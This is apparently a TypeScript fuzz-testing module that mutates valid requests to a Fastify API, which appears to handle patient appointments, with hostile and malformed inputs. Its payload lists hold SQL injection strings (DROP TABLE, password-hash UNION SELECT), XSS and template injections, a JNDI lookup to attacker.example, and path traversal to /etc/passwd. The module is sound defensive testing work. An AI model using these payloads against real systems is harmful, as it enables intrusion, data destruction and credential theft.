/** The cases of the fuzz (fuzz.ts): hostile values, and one mutation of a valid request per case. */
import fc from 'fast-check';
import type { InjectOptions } from 'fastify';
import type { CatalogueRoute } from './route-catalogue.ts';
import { encodePathSegment, injectOptions } from './sample-requests.ts';
import type { RequestParts } from './sample-parts.ts';

const SQL_PAYLOADS = [
  "' OR '1'='1",
  '1; DROP TABLE patients; --',
  '" OR 1=1 --',
  "1' UNION SELECT password_hash, email FROM users --",
  "'; UPDATE appointments SET status='cancelled'; --",
  '1 AND SLEEP(5)',
  '$$; select pg_sleep(5); $$',
  "\\'; --",
];
const SCRIPT_PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '</title><svg/onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}',
  '${jndi:ldap://attacker.example/a}',
];
const TRAVERSAL_PAYLOADS = [
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd%00.png',
  '%2e%2e%2f%2e%2e%2f',
  'file:///etc/passwd',
];
const ODD_TEXT = [
  '',
  ' ',
  '\u0000',
  '\uFEFF',
  '\u202Eevil',
  '𝕊𝕒𝕗𝕖𝕥𝕪 🦷',
  'Z̴̡̛̛͕a̷l̶g̴o̵',
  'e\u0301\u0301\u0301',
  '\uD800',
  'null',
  'undefined',
  'NaN',
  '-1',
  '0',
  '1e309',
  '2147483648',
  '99999999999999999999999',
  '0x7fffffff',
  '__proto__',
  'constructor',
];

/** The edges of the accepted dates (1900-01-01…2999-12-31) and just past them, for every date field. */
export const DATE_EDGES = [
  '1900-01-01',
  '2999-12-31',
  '1899-12-31',
  '3000-01-01',
  '9999-12-31',
  '0000-01-01',
  '2999-12-31T23:59:59Z',
  '9999-12-31T23:59:59Z',
];

/** A value of the wrong kind, hostile, or huge. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(...SQL_PAYLOADS, ...SCRIPT_PAYLOADS, ...TRAVERSAL_PAYLOADS, ...ODD_TEXT),
  fc.constantFrom<unknown>(...DATE_EDGES),
  fc.string({ unit: 'binary', maxLength: 64 }),
  fc.string({ unit: 'grapheme', maxLength: 64 }),
  fc.string({ minLength: 2_000, maxLength: 20_000 }),
  fc.integer(),
  fc.constantFrom(-1, 0, 1, 2 ** 31, 2 ** 53, -(2 ** 53), 1.5, 1e308),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 5 }),
);

type Mutation =
  | { kind: 'field'; pick: number; value: unknown }
  | { kind: 'drop'; pick: number }
  | { kind: 'extra'; key: string; value: unknown }
  | { kind: 'body'; value: unknown }
  | { kind: 'raw'; text: string }
  | { kind: 'content-type'; type: string }
  | { kind: 'path'; pick: number; value: string }
  | { kind: 'query'; key: string; value: string }
  | { kind: 'deep'; depth: number };

const malformedJson = fc.oneof(
  fc.constantFrom(
    '{',
    '{"a":',
    '{"a":1,}',
    "{'a':1}",
    '[1,2',
    'nul',
    '{"a":1}{"b":2}',
    '\u0000',
    '{"a":"\\u12"}',
    '"',
  ),
  fc.string({ maxLength: 200 }).map((text) => `{"x":${text}`),
);

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.record({ kind: fc.constant('field' as const), pick: fc.nat(), value: hostileValue }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('drop' as const), pick: fc.nat() }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('extra' as const),
      key: fc.oneof(
        fc.constantFrom('__proto__', 'constructor', 'prototype', 'clientId', 'isAdmin'),
        fc.string({ maxLength: 12 }),
      ),
      value: hostileValue,
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({ kind: fc.constant('body' as const), value: fc.jsonValue({ maxDepth: 4 }) }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('raw' as const), text: malformedJson }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('content-type' as const),
      type: fc.constantFrom(
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/xml',
        'application/json; charset=utf-16',
      ),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('path' as const),
      pick: fc.nat(),
      value: fc.oneof(
        fc.constantFrom(...TRAVERSAL_PAYLOADS, ...SQL_PAYLOADS, ...ODD_TEXT),
        fc.string({ maxLength: 40 }),
      ),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('query' as const),
      key: fc.oneof(
        fc.constantFrom('clientId', 'page', 'pageSize', 'search', 'sort', 'from', 'to', '__proto__'),
        fc.string({ maxLength: 10 }),
      ),
      value: fc.oneof(
        fc.constantFrom(...SQL_PAYLOADS, ...TRAVERSAL_PAYLOADS, ...ODD_TEXT),
        fc.constantFrom(...DATE_EDGES),
        fc.string({ maxLength: 3_000 }),
      ),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('deep' as const),
      depth: fc.integer({ min: 100, max: 20_000 }),
    }),
  },
);

type Path = (string | number)[];

function leafPaths(value: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (Array.isArray(value)) {
    if (prefix.length > 0) out.push(prefix);
    value.forEach((item, index) => leafPaths(item, [...prefix, index], out));
  } else if (typeof value === 'object' && value !== null) {
    if (prefix.length > 0) out.push(prefix);
    for (const [key, item] of Object.entries(value)) leafPaths(item, [...prefix, key], out);
  } else if (prefix.length > 0) {
    out.push(prefix);
  }
  return out;
}

function setAt(root: unknown, path: Path, value: unknown, remove = false): void {
  let node = root as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = path.at(-1);
  if (last === undefined) return;
  if (remove) {
    if (Array.isArray(node) && typeof last === 'number') node.splice(last, 1);
    else delete node[last];
  } else {
    node[last] = value;
  }
}

export const asText = (value: unknown): string =>
  typeof value === 'string' ? value : (JSON.stringify(value) ?? 'undefined');

/**
 * The request of one case: the valid request with one mutation applied. The headers the route needs
 * besides the caller's (a manage or claim token, a webhook signature) stay on every case, so that
 * the cases reach the code behind them; the mutation's own headers (content type) come on top.
 */
export function mutatedRequest(route: CatalogueRoute, base: RequestParts, change: Mutation): InjectOptions {
  const request = mutatedParts(route, base, change);
  if (base.headers === undefined) return request;
  return {
    ...request,
    headers: { ...base.headers, ...(request.headers as Record<string, string> | undefined) },
  };
}

function mutatedParts(route: CatalogueRoute, base: RequestParts, change: Mutation): InjectOptions {
  const parts: RequestParts = structuredClone(base);
  const request = injectOptions(route, parts);
  const headers: Record<string, string> = {};
  switch (change.kind) {
    case 'field':
    case 'drop': {
      // Body fields, then query values (as text).
      const bodyPaths = leafPaths(parts.body).map((path) => ({ in: 'body' as const, path }));
      const queryPaths = Object.keys(parts.query).map((key) => ({ in: 'query' as const, path: [key] }));
      const all = [...bodyPaths, ...queryPaths];
      const target = all[change.pick % Math.max(1, all.length)];
      if (target === undefined) {
        // Nothing to change: send the hostile value as the whole body.
        return {
          ...request,
          payload: JSON.stringify(change.kind === 'field' ? change.value : null),
          headers: { 'content-type': 'application/json' },
        };
      }
      if (target.in === 'body')
        setAt(
          parts.body,
          target.path,
          change.kind === 'field' ? change.value : undefined,
          change.kind === 'drop',
        );
      else if (change.kind === 'drop') delete parts.query[String(target.path[0])];
      else parts.query[String(target.path[0])] = asText(change.value);
      return { ...injectOptions(route, parts), headers };
    }
    case 'extra': {
      if (typeof parts.body === 'object' && parts.body !== null && !Array.isArray(parts.body)) {
        // JSON text, so that "__proto__" travels as an own key.
        const text = JSON.stringify(parts.body).replace(
          /^\{/,
          `{${JSON.stringify(change.key)}:${JSON.stringify(change.value) ?? 'null'},`,
        );
        return {
          ...request,
          payload: text.replace(/,\}$/, '}'),
          headers: { 'content-type': 'application/json' },
        };
      }
      parts.query[change.key] = asText(change.value);
      return { ...injectOptions(route, parts), headers };
    }
    case 'body':
      return {
        ...request,
        payload: JSON.stringify(change.value),
        headers: { 'content-type': 'application/json' },
      };
    case 'raw':
      return { ...request, payload: change.text, headers: { 'content-type': 'application/json' } };
    case 'content-type':
      return {
        ...request,
        payload: parts.body === undefined ? 'a=1' : JSON.stringify(parts.body),
        headers: { 'content-type': change.type },
      };
    case 'path': {
      const names = route.pathParams;
      const name = names[change.pick % Math.max(1, names.length)];
      if (name === undefined) {
        // No parameter: hostile text as an extra path segment (a 404 must keep the error shape too).
        return { ...request, url: `${route.url.replace(/\/$/, '')}/${encodePathSegment(change.value)}` };
      }
      parts.params[name] = change.value;
      return { ...injectOptions(route, parts), headers };
    }
    case 'query':
      parts.query[change.key] = change.value;
      return { ...injectOptions(route, parts), headers };
    case 'deep': {
      const nested = `${'['.repeat(change.depth)}${']'.repeat(change.depth)}`;
      const text =
        typeof parts.body === 'object' && parts.body !== null && !Array.isArray(parts.body)
          ? JSON.stringify(parts.body).replace(/^\{/, `{"deep":${nested},`).replace(/,\}$/, '}')
          : nested;
      return { ...request, payload: text, headers: { 'content-type': 'application/json' } };
    }
  }
}
